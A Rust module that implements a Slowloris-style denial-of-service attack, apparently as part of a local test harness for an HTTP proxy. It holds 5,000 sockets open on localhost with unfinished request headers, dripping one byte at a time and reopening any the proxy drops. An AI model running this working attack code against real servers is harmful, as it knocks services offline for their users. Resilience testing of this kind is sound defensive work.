//! The attack of that name: sockets that begin a request and never finish it, each with a byte now and then, so that none looks dead. What the
//! proxy closes is opened again, so their number stays.

use std::io::Write;
use std::net::{Ipv4Addr, TcpStream};
use std::sync::Arc;
use std::sync::atomic::{AtomicBool, Ordering};
use std::thread::JoinHandle;
use std::time::{Duration, Instant};

use anyhow::{Context, bail};

use super::client::connect;
use crate::machine::pause;

/// How many sockets.
pub const SOCKETS: usize = 5_000;

/// Each socket's time between two bytes.
const BETWEEN_BYTES: Duration = Duration::from_secs(2);

/// Where they come from: not where the honest client does.
const SOURCE: Ipv4Addr = Ipv4Addr::new(127, 0, 0, 2);

/// An attack under way; it ends when this is dropped.
pub struct Attack {
    stop: Arc<AtomicBool>,
    thread: Option<JoinHandle<()>>,
}

impl Attack {
    /// Begins it; all sockets are open when this returns.
    pub fn begin(port: u16) -> anyhow::Result<Attack> {
        let mut sockets = Vec::with_capacity(SOCKETS);
        for index in 0..SOCKETS {
            sockets.push(open(port).with_context(|| format!("only {index} slow sockets came to be"))?);
        }
        let stop = Arc::new(AtomicBool::new(false));
        let seen = Arc::clone(&stop);
        let thread = std::thread::Builder::new().spawn(move || drip(&mut sockets, port, &seen))?;
        Ok(Attack {
            stop,
            thread: Some(thread),
        })
    }

    /// An error when the attack broke off.
    pub fn check(&self) -> anyhow::Result<()> {
        if self.thread.as_ref().is_none_or(JoinHandle::is_finished) {
            bail!("the slow sockets could not be kept open");
        }
        Ok(())
    }
}

impl Drop for Attack {
    fn drop(&mut self) {
        self.stop.store(true, Ordering::Relaxed);
        if let Some(thread) = self.thread.take() {
            let _ = thread.join();
        }
    }
}

fn open(port: u16) -> std::io::Result<TcpStream> {
    let mut stream = connect(SOURCE, port)?;
    stream.set_nonblocking(true)?;
    stream.write_all(b"GET /1k HTTP/1.1\r\nHost: localhost\r\nX-Slow: ")?;
    Ok(stream)
}

/// A byte to each in turns, evenly over the time.
fn drip(sockets: &mut [TcpStream], port: u16, stop: &AtomicBool) {
    let step = BETWEEN_BYTES / sockets.len().max(1) as u32;
    let begin = Instant::now();
    for (sent, index) in (0..sockets.len()).cycle().enumerate() {
        let due = begin + step * sent as u32;
        while let Some(early) = due.checked_duration_since(Instant::now()) {
            pause(early);
        }
        if stop.load(Ordering::Relaxed) {
            return;
        }
        if sockets[index].write_all(b"x").is_err() {
            match open(port) {
                Ok(stream) => sockets[index] = stream,
                Err(_) => return,
            }
        }
    }
}
